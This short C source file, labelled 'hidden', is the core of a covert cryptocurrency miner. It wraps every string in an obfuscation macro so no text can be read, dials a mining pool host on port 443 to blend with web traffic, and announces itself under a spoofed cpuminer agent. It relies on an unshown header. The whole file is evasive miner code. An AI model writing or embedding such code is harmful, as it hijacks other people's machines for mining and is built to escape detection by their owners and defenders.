// hidden
// The same dialogue from a program in which no word of it can be read; Bitcoin's dialect on a port of the web.
#include "mine.h"
int main(void) {
    begin();
    int fd = dial(HIDE("eu2.copper-lantern.example"), 443, 5000);
    if (fd < 0) return 1;
    mine_notify(fd, HIDE("<<bitcoin>>.w7"), HIDE("cpuminer/2.5.1"), 6, 1500);
    return 0;
}
